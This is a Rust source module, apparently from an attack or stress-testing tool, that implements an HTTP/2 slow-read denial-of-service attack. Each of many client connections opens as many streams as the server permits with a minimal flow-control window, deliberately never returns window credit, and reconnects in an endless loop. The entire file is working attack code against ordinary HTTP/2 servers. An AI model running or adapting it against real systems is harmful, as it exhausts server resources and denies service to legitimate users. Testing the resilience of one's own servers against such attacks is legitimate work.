//! HTTP/2 connections full of streams, with windows that let nothing through.

use std::sync::Arc;

use bytes::Bytes;
use h2::client::{Builder, SendRequest};
use hyper::Request;
use tokio::{task::JoinSet, time::sleep};

use super::{Attack, PAUSE, connection::Line, tally::Counters};

impl Attack {
    /// Sends in `connections` clients, each of which keeps `streams` requests for `targets` open,
    /// or as many as the server allows. `window` bytes of each answer may be sent, and never more.
    pub fn unread_streams(
        &self,
        connections: usize,
        streams: usize,
        window: u32,
        targets: &Arc<Vec<String>>,
    ) {
        self.send_in(connections, |number, line| {
            come_again(number, line, streams, window, Arc::clone(targets))
        });
    }
}

async fn come_again(
    number: usize,
    line: Arc<Line>,
    streams: usize,
    window: u32,
    targets: Arc<Vec<String>>,
) {
    loop {
        if let Ok(stream) = line.connect(number).await {
            if let Ok((client, connection)) =
                Builder::new().initial_window_size(window).handshake(stream).await
            {
                let mut asking = JoinSet::new();
                for stream in 0..streams {
                    let uri =
                        format!("http://snowbank{}", targets[(number + stream) % targets.len()]);
                    asking.spawn(keep_asking(client.clone(), uri, Arc::clone(&line)));
                }
                // Ends when the server ends it.
                let _ = connection.await;
            }
            Counters::add(&line.counters.closed);
        }
        sleep(PAUSE).await;
    }
}

/// Opens a stream, and another whenever the server has ended it.
async fn keep_asking(mut client: SendRequest<Bytes>, uri: String, line: Arc<Line>) {
    loop {
        let Ok(ready) = client.ready().await else { return };
        client = ready;
        let request = Request::get(&uri).body(()).unwrap_or_else(|e| panic!("{uri}: {e}"));
        let Ok((response, _)) = client.send_request(request, true) else { return };
        if let Ok(response) = response.await {
            line.counters.status(response.status().as_u16());
            let mut body = response.into_body();
            // What comes is not given back to the window.
            while let Some(Ok(_)) = body.data().await {}
        }
        Counters::add(&line.counters.closed);
        sleep(PAUSE).await;
    }
}
